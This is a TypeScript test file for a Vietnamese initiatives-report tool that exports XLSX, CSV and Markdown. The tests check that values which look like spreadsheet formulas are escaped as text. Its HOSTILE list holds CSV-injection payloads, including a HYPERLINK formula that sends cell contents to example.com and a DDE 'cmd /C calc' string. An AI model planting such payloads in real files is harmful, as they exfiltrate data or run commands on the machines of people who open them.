import { mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createClient } from '../../scripts/github/client.ts';
import { buildReport, type Report } from '../../scripts/report/build.ts';
import { toCsv } from '../../scripts/report/csv.ts';
import { GitHubSource } from '../../scripts/report/github-source.ts';
import { LocalGitSource } from '../../scripts/report/local-source.ts';
import { toMarkdown } from '../../scripts/report/markdown.ts';
import { statusOfLabel } from '../../scripts/report/source.ts';
import { BALLOT_HEADER_ROW, ballotFileName, writeXlsx } from '../../scripts/report/xlsx.ts';
import { main } from '../../scripts/report.ts';
import { criterionHeader } from '../../src/core/committee.ts';
import {
  BALLOT,
  ballotSheetName,
  HEADERS,
  MEMBER_HEADERS,
  SHEETS,
  VOTE_AGAINST,
  VOTE_FOR,
} from '../../src/documents/committee/columns.ts';
import { memberRoles } from '../../src/schemas/vocabularies.ts';
import { type FakeGitHub, rateLimited, startFakeGitHub } from '../support/fake-github.ts';
import { cmsBranch, git, makeRepo } from '../support/git-fixture.ts';

const project = resolve(import.meta.dirname, '../..');
const SAMPLE = 'nhac-han-tu-dong-tren-he-thong-mot-cua-dien-tu-cho-ho-so-dat-dai';
const sampleText = readFileSync(join(project, 'content/initiatives', SAMPLE, 'index.md'), 'utf8');
const NEW_TITLE = 'Đặt lịch hẹn trả kết quả qua Zalo để giảm hồ sơ trễ hẹn ở xã Đức Phú';
const IMAGE = 'bieu-do-ho-so-tre-hen.png';
const image = readFileSync(join(project, 'content/initiatives', SAMPLE, IMAGE));
/** Titles a spreadsheet would run as formulas (OWASP "CSV injection"). */
const HOSTILE = [
  '=HYPERLINK("https://example.com/?q="&A1,"Bấm vào đây")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
];
const goodEntry = sampleText.replace(/^title: .*$/m, `title: ${NEW_TITLE}`);
const badEntry = goodEntry.replace(/^summary: .*$/m, '');

// slugOfBranch has its table in tests/review/branch-names.test.ts.
describe('source helpers', () => {
  it.each([
    ['decap-cms/draft', 'draft'],
    ['decap-cms/pending_publish\n', 'pending_publish'],
    ['hợp lệ', undefined],
  ])('statusOfLabel(%j) = %s', (label, status) => expect(statusOfLabel(label)).toBe(status));
});

describe('report from a local repository with cms/ branches (decap-server git mode)', () => {
  let root: string;
  let report: Report;
  beforeAll(async () => {
    root = makeRepo(project, {}, true);
    cmsBranch(
      root,
      'dat-lich-hen-zalo',
      { 'index.md': goodEntry, [IMAGE]: image },
      'pending_publish',
    );
    cmsBranch(root, 'bai-thieu-tom-tat', { 'index.md': badEntry }, 'draft');
    report = await buildReport(new LocalGitSource(root), '2024-tanh-linh');
  });

  it('lists merged entries and every pending branch with its workflow status and validation', () => {
    const merged = report.rows.filter((row) => row.status === 'published');
    expect(merged.length).toBe(15);
    const good = report.rows.find((row) => row.slug === 'dat-lich-hen-zalo');
    expect(good).toMatchObject({
      title: NEW_TITLE,
      status: 'pending_publish',
      origin: 'Nhánh cms/initiatives/dat-lich-hen-zalo/index',
    });
    expect(good?.errors).toEqual([]);
    expect(good?.areas).toEqual(['Thủ tục hành chính', 'Chính quyền số']);
    expect(good?.authors.map((author) => author.name)).toContain('Trần Văn Hùng');
    expect(good?.indicators[0]).toBe('Tỷ lệ hồ sơ trễ hẹn – Hồ sơ đất đai cấp huyện: 18,4% → 6,1%');
    const bad = report.rows.find((row) => row.slug === 'bai-thieu-tom-tat');
    expect(bad?.status).toBe('draft');
    expect(bad?.errors.length).toBeGreaterThan(0);
    expect(bad?.errors.map((finding) => finding.field).join(' ')).toContain('summary');
  });

  it('pre-fills scores and votes from the existing decision', () => {
    const row = report.rows.find((item) => item.slug === SAMPLE);
    expect(row?.scores).toEqual({
      novelty: 27,
      effectiveness: 28,
      applicability: 22,
      influence: 13,
    });
    expect(row?.decision).toBe('Được công nhận – Xuất sắc');
  });

  it('writes an XLSX that reads back with Vietnamese text, a frozen header row and filters', async () => {
    const path = join(mkdtempSync(join(tmpdir(), 'kho-xlsx-')), 'tong-hop.xlsx');
    await writeXlsx(report, path);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(path);
    const roster = report.campaign.committee?.members ?? [];
    expect(roster).toHaveLength(7);
    expect(book.worksheets.map((sheet) => sheet.name)).toEqual([
      SHEETS.list,
      SHEETS.members,
      SHEETS.decision,
      ...roster.map((member, index) => ballotSheetName(index, member.name)),
      SHEETS.guide,
    ]);
    expect(ballotSheetName(2, 'Phạm Đức Long')).toBe('P3 Phạm Đức Long');
    const sheet = book.getWorksheet(SHEETS.list);
    if (!sheet) throw new Error('no list sheet');
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(headers).toEqual(
      expect.arrayContaining([
        HEADERS.title,
        HEADERS.unit,
        HEADERS.authors,
        HEADERS.votesFor,
        criterionHeader({ name: 'Tính mới, tính sáng tạo', max: 30 }),
      ]),
    );
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    expect(sheet.rowCount).toBe(report.rows.length + 1);
    const titleColumn = headers.indexOf(HEADERS.title) + 1;
    const titles = Array.from(
      { length: report.rows.length },
      (_, index) => sheet.getRow(index + 2).getCell(titleColumn).value,
    );
    expect(titles).toContain(NEW_TITLE);
    expect(NEW_TITLE.normalize('NFC')).toBe(NEW_TITLE);
    const members = book.getWorksheet(SHEETS.members);
    expect(members?.getRow(2).getCell(2).value).toBe('Nguyễn Văn Thành');
    expect(members?.getRow(2).getCell(4).value).toBe('Chủ tịch Hội đồng');
  });

  it('writes titles, units, authors and headers that start like formulas as text, in the XLSX and the CSV', async () => {
    const [first, ...others] = report.campaign.rubric.criteria;
    if (!first) throw new Error('no criterion');
    const hostileCriterion = { ...first, name: '=1+1' };
    const hostile: Report = {
      ...report,
      campaign: {
        ...report.campaign,
        rubric: { ...report.campaign.rubric, criteria: [hostileCriterion, ...others] },
      },
      rows: report.rows.map((row, index) => {
        const text = HOSTILE[index];
        if (text === undefined) return row;
        // A negative score is a number: it must stay one.
        return {
          ...row,
          title: text,
          unit: text,
          authors: [{ name: text }],
          scores: { ...row.scores, [first.id]: -5 },
        };
      }),
    };
    const path = join(mkdtempSync(join(tmpdir(), 'kho-xlsx-')), 'tong-hop.xlsx');
    await writeXlsx(hostile, path);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(path);
    const sheet = book.getWorksheet(SHEETS.list);
    if (!sheet) throw new Error('no list sheet');
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    const column = (header: string) => headers.indexOf(header) + 1;
    expect(headers).toContain(`'${criterionHeader(hostileCriterion)}`);
    HOSTILE.forEach((text, index) => {
      const row = sheet.getRow(index + 2);
      for (const header of [HEADERS.title, HEADERS.unit, HEADERS.authors]) {
        const cell = row.getCell(column(header));
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        // XML reads a carriage return in a text back as a line feed; the apostrophe stays first.
        expect(cell.value).toBe(`'${text}`.replace('\r', '\n'));
      }
      const score = row.getCell(column(`'${criterionHeader(hostileCriterion)}`));
      expect(score.type).toBe(ExcelJS.ValueType.Number);
      expect(score.value).toBe(-5);
    });
    // On the members' ballots too, the titles are text.
    const ballot = book.worksheets.find(
      (each) => each.getCell('A1').value === `${BALLOT.title} – ${report.campaign.title}`,
    );
    if (!ballot) throw new Error('no ballot');
    HOSTILE.forEach((text, index) => {
      const cell = ballot.getRow(BALLOT_HEADER_ROW + 1 + index).getCell(3);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(`'${text}`.replace('\r', '\n'));
    });
    // The only formulas in the book are the report's own totals.
    book.eachSheet((each) =>
      each.eachRow((row, number) =>
        row.eachCell((cell, col) => {
          if (cell.type !== ExcelJS.ValueType.Formula) return;
          if (each.name === SHEETS.list) {
            expect([number > 1, col]).toEqual([true, column(HEADERS.total)]);
            expect(cell.formula).toMatch(/^SUM\([A-Z]+\d+:[A-Z]+\d+\)$/);
          } else {
            expect(each.getCell('A1').value).toMatch(new RegExp(`^${BALLOT.title}`));
            expect(number).toBeGreaterThan(BALLOT_HEADER_ROW);
            expect(cell.formula).toMatch(
              /^IF\(COUNT\([A-Z]+\d+:[A-Z]+\d+\)=0,"",SUM\([A-Z]+\d+:[A-Z]+\d+\)\)$/,
            );
          }
        }),
      ),
    );

    const records = parseCsv(toCsv(hostile), { bom: true, columns: true }) as Record<
      string,
      string
    >[];
    HOSTILE.forEach((text, index) => {
      const record = records[index] as Record<string, string>;
      expect(record[HEADERS.title]).toBe(`'${text}`);
      expect(record[HEADERS.unit]).toBe(`'${text}`);
      expect(record[HEADERS.authors]).toBe(`'${text}`);
      expect(record[`'${criterionHeader(hostileCriterion)}`]).toBe('-5');
      expect(record[HEADERS.index]).toBe(String(index + 1));
    });
    for (const record of records)
      for (const value of Object.values(record)) expect(value).not.toMatch(/^[=+@\t\r]|^-\D/);
  });

  it("writes one ballot per member of the roster, an author's own line marked and left blank", async () => {
    const path = join(mkdtempSync(join(tmpdir(), 'kho-xlsx-')), 'tong-hop.xlsx');
    await writeXlsx(report, path);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(path);
    const roster = report.campaign.committee?.members ?? [];
    const members = book.getWorksheet(SHEETS.members);
    expect(
      roster.map((_, index) => ((members?.getRow(index + 2).values ?? []) as unknown[]).slice(1)),
    ).toEqual(
      roster.map((member) => [
        member.id,
        member.name,
        member.position,
        memberRoles.find((role) => role.id === member.role)?.name,
      ]),
    );
    const criteria = report.campaign.rubric.criteria;
    for (const [index, member] of roster.entries()) {
      const ballot = book.getWorksheet(ballotSheetName(index, member.name));
      if (!ballot) throw new Error(`no ballot for ${member.id}`);
      expect(ballot.getCell('A1').value).toBe(`${BALLOT.title} – ${report.campaign.title}`);
      expect([ballot.getCell('A2').value, ballot.getCell('B2').value]).toEqual([
        MEMBER_HEADERS.id,
        member.id,
      ]);
      expect(ballot.getCell('B3').value).toBe(member.name);
      expect(ballot.pageSetup.orientation).toBe('landscape');
      const headers = (ballot.getRow(BALLOT_HEADER_ROW).values as unknown[]).slice(1);
      expect(headers).toEqual([
        HEADERS.index,
        HEADERS.slug,
        HEADERS.title,
        ...criteria.map(criterionHeader),
        HEADERS.total,
        BALLOT.vote,
        BALLOT.note,
      ]);
      const slugs = report.rows.map(
        (_, offset) => ballot.getRow(BALLOT_HEADER_ROW + 1 + offset).getCell(2).value,
      );
      expect(slugs).toEqual(report.rows.map((row) => row.slug));
      const own = ballot.getRow(BALLOT_HEADER_ROW + 1 + slugs.indexOf(SAMPLE));
      const voteColumn = headers.indexOf(BALLOT.vote) + 1;
      // Trần Văn Hùng wrote the sample initiative: his line says so and has nothing to fill.
      const author = member.id === 'tran-van-hung';
      expect(own.getCell(voteColumn + 1).value ?? null).toBe(author ? BALLOT.recused : null);
      // The others' lines come pre-filled with the vote the decision recorded for them.
      const recorded = report.decision?.results
        .find((result) => result.initiative === SAMPLE)
        ?.marks?.find((line) => line.member === member.id)?.vote;
      if (!author) expect(recorded).toBe('for');
      expect(own.getCell(voteColumn).value ?? null).toBe(author ? null : VOTE_FOR);
      expect(own.getCell(voteColumn).dataValidation?.formulae).toEqual(
        author ? undefined : [`"${VOTE_FOR},${VOTE_AGAINST}"`],
      );
    }
  });

  it('writes no ballot when the campaign has no roster, and the guide says what to do', async () => {
    const withoutRoster: Report = {
      ...report,
      campaign: { ...report.campaign, committee: undefined },
    };
    const path = join(mkdtempSync(join(tmpdir(), 'kho-xlsx-')), 'tong-hop.xlsx');
    await writeXlsx(withoutRoster, path);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(path);
    expect(book.worksheets.map((sheet) => sheet.name)).toEqual([
      SHEETS.list,
      SHEETS.members,
      SHEETS.decision,
      SHEETS.guide,
    ]);
    const guide: string[] = [];
    book.getWorksheet(SHEETS.guide)?.eachRow((row) => {
      guide.push(String(row.getCell(1).value));
    });
    expect(guide.join('\n')).toContain('Đợt chưa có danh sách Hội đồng');
  });

  it('writes CSV in UTF-8 with a BOM and Markdown with the same rows', () => {
    const csv = toCsv(report);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const records = parseCsv(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(records).toHaveLength(report.rows.length);
    expect(
      records.find((record) => record[HEADERS.slug] === 'dat-lich-hen-zalo')?.[HEADERS.title],
    ).toBe(NEW_TITLE);
    const markdown = toMarkdown(report);
    expect(markdown).toContain(`| ${NEW_TITLE} |`);
    expect(markdown).toContain('Tổng số: 17 sáng kiến, 16 hợp lệ, 1 cần sửa.');
  });

  it('CLI --ballot-files writes one ballot file per member, each a workbook with that member alone', async () => {
    const out = mkdtempSync(join(tmpdir(), 'kho-report-phieu-'));
    const lines: string[] = [];
    const original = { log: console.log, error: console.error };
    console.log = (text: string) => lines.push(text);
    console.error = (text: string) => lines.push(text);
    try {
      expect(
        await main([
          '--repo',
          root,
          '--campaign',
          '2024-tanh-linh',
          '--out',
          out,
          '--format',
          'xlsx',
          '--ballot-files',
        ]),
      ).toBe(0);
    } finally {
      Object.assign(console, original);
    }
    const roster = report.campaign.committee?.members ?? [];
    const folder = join(out, 'phieu-cham-2024-tanh-linh');
    expect(readdirSync(folder).sort()).toEqual(
      roster.map((member, index) => ballotFileName(index, member.id)).sort(),
    );
    for (const [index, member] of roster.entries()) {
      const book = new ExcelJS.Workbook();
      await book.xlsx.readFile(join(folder, ballotFileName(index, member.id)));
      expect(book.worksheets.map((sheet) => sheet.name)).toEqual([
        ballotSheetName(index, member.name),
      ]);
      expect(book.worksheets[0]?.getCell('B2').value).toBe(member.id);
    }
    expect(lines.join('\n')).toContain(join(folder, ballotFileName(0, roster[0]?.id ?? '')));
  });

  it('CLI writes the three files and answers --help in Vietnamese', async () => {
    const out = mkdtempSync(join(tmpdir(), 'kho-report-out-'));
    const lines: string[] = [];
    const original = { log: console.log, error: console.error };
    console.log = (text: string) => lines.push(text);
    console.error = (text: string) => lines.push(text);
    try {
      expect(await main(['--help'])).toBe(0);
      expect(await main(['--repo', root, '--campaign', '2024-tanh-linh', '--out', out])).toBe(0);
      // A wrong campaign or a missing folder is a wrong command line: 2, as in every command.
      expect(await main(['--repo', root, '--campaign', 'khong-co'])).toBe(2);
      expect(await main(['--repo', root, '--format', 'pdf'])).toBe(2);
      expect(await main(['--repo', join(root, 'khong-co'), '--campaign', '2024-tanh-linh'])).toBe(
        2,
      );
    } finally {
      Object.assign(console, original);
    }
    expect(lines[0]).toMatch(/^Cách dùng: npm run report/);
    expect(lines[1]).toMatch(/^Đã tổng hợp 17 sáng kiến của đợt 2024-tanh-linh \(1 cần sửa\)/);
    expect(lines[2]).toBe(
      'Không có đợt phát động "khong-co". Các đợt hiện có: 2024-tanh-linh, 2026-xa-tanh-linh.',
    );
    expect(lines.at(-1)).toBe(`Thư mục không tồn tại: "${join(root, 'khong-co')}" (--repo).`);
    expect(readFileSync(join(out, 'tong-hop-2024-tanh-linh.csv')).subarray(0, 3)).toEqual(
      Buffer.from([0xef, 0xbb, 0xbf]),
    );
    expect(git(root, 'status', '--porcelain')).toBe('');
  });
});

describe('report from the GitHub-like server', () => {
  let server: FakeGitHub;
  let root: string;
  beforeAll(async () => {
    root = makeRepo(project, {}, true);
    const sha = 'd'.repeat(40);
    server = await startFakeGitHub({
      pulls: [
        {
          number: 21,
          title: 'Create Initiatives “dat-lich-hen-zalo”',
          state: 'open',
          user: { login: 'can-bo-xa' },
          head: { ref: 'cms/initiatives/dat-lich-hen-zalo/index', sha },
          base: { ref: 'main' },
          labels: ['decap-cms/pending_review', 'hợp lệ'],
          files: [
            { filename: 'content/initiatives/dat-lich-hen-zalo/index.md', status: 'added' },
            { filename: `content/initiatives/dat-lich-hen-zalo/${IMAGE}`, status: 'added' },
          ],
        },
        {
          number: 22,
          title: 'Sửa mã nguồn',
          state: 'open',
          user: { login: 'lap-trinh' },
          head: { ref: 'sua-giao-dien', sha: 'e'.repeat(40) },
          base: { ref: 'main' },
          labels: [],
          files: [{ filename: 'src/pages/index.astro', status: 'modified' }],
        },
      ],
      contents: {
        [sha]: {
          'content/initiatives/dat-lich-hen-zalo/index.md': goodEntry,
          [`content/initiatives/dat-lich-hen-zalo/${IMAGE}`]: image,
        },
      },
    });
  });
  afterAll(() => server.close());

  it('lists open cms/ pull requests with their Decap status and validates their files', async () => {
    const github = createClient({ baseUrl: server.baseUrl, token: 't', retryAfterUnit: 10 });
    server.inject({ method: 'GET', path: /\/pulls$/, ...rateLimited(429, 1) });
    const report = await buildReport(
      new GitHubSource(github, { owner: 'so-noi-vu', repo: 'kho-sang-kien' }, root),
      '2024-tanh-linh',
    );
    const row = report.rows.find((item) => item.slug === 'dat-lich-hen-zalo');
    expect(row).toMatchObject({
      title: NEW_TITLE,
      status: 'pending_review',
      origin: 'Yêu cầu hợp nhất #21',
      url: 'https://github.com/so-noi-vu/kho-sang-kien/pull/21',
    });
    expect(row?.errors).toEqual([]);
    expect(report.rows).toHaveLength(16);
    expect(report.source).toBe('kho GitHub so-noi-vu/kho-sang-kien (nhánh main)');
    // The rate-limited first call was retried.
    expect(
      server.requests.filter((request) =>
        request.path.startsWith('/repos/so-noi-vu/kho-sang-kien/pulls?'),
      ).length,
    ).toBe(2);
  });

  it.each([
    ['changes only an attachment of a published entry', 'modified', []],
    ['deletes an attachment the entry still shows', 'removed', ['bieu-do-ho-so-tre-hen.png']],
  ])(
    'a pull request that %s is validated with the rest of the folder from main',
    async (_name, status, missing) => {
      const sha = 'f'.repeat(40);
      const slug = 'nhac-han-tu-dong-tren-he-thong-mot-cua-dien-tu-cho-ho-so-dat-dai';
      const folder = `content/initiatives/${slug}`;
      const local = await startFakeGitHub({
        pulls: [
          {
            number: 40,
            title: `Update Initiatives “${slug}”`,
            state: 'open',
            user: { login: 'can-bo-xa' },
            head: { ref: `cms/initiatives/${slug}/index`, sha },
            base: { ref: 'main' },
            labels: ['decap-cms/pending_review'],
            files: [{ filename: `${folder}/${IMAGE}`, status }],
          },
        ],
        contents: {
          [sha]: {
            [`${folder}/index.md`]: sampleText,
            ...(status === 'removed' ? {} : { [`${folder}/${IMAGE}`]: image }),
          },
        },
      });
      try {
        const github = createClient({ baseUrl: local.baseUrl, token: 't', throttle: false });
        const report = await buildReport(
          new GitHubSource(github, { owner: 'so-noi-vu', repo: 'kho-sang-kien' }, root),
          '2024-tanh-linh',
        );
        const row = report.rows.find(
          (item) => item.slug === slug && item.origin === 'Yêu cầu hợp nhất #40',
        );
        expect(row?.title).toBe('Nhắc hạn tự động trên hệ thống một cửa điện tử cho hồ sơ đất đai');
        const named = row?.errors.map((finding) => finding.message).join('\n') ?? '';
        for (const file of missing) expect(named).toContain(file);
        if (missing.length === 0) expect(row?.errors).toEqual([]);
      } finally {
        await local.close();
      }
    },
  );

  it('fails with a Vietnamese message when GitHub refuses the token', async () => {
    const github = createClient({ baseUrl: server.baseUrl, token: 't' });
    server.inject({
      method: 'GET',
      path: /\/pulls$/,
      status: 401,
      body: { message: 'Bad credentials' },
    });
    const lines: string[] = [];
    const original = console.error;
    console.error = (text: string) => lines.push(text);
    try {
      process.env.GITHUB_TOKEN = 'sai';
      expect(
        await main([
          '--github',
          'so-noi-vu/kho-sang-kien',
          '--api-url',
          server.baseUrl,
          '--repo',
          root,
          '--campaign',
          '2024-tanh-linh',
          '--out',
          mkdtempSync(join(tmpdir(), 'kho-r-')),
        ]),
      ).toBe(1);
    } finally {
      console.error = original;
      delete process.env.GITHUB_TOKEN;
    }
    expect(github).toBeTruthy();
    expect(lines[0]).toBe(
      'Không lập danh sách tổng hợp được: mã truy cập GitHub (GITHUB_TOKEN) không hợp lệ hoặc đã hết hạn.',
    );
  });
});
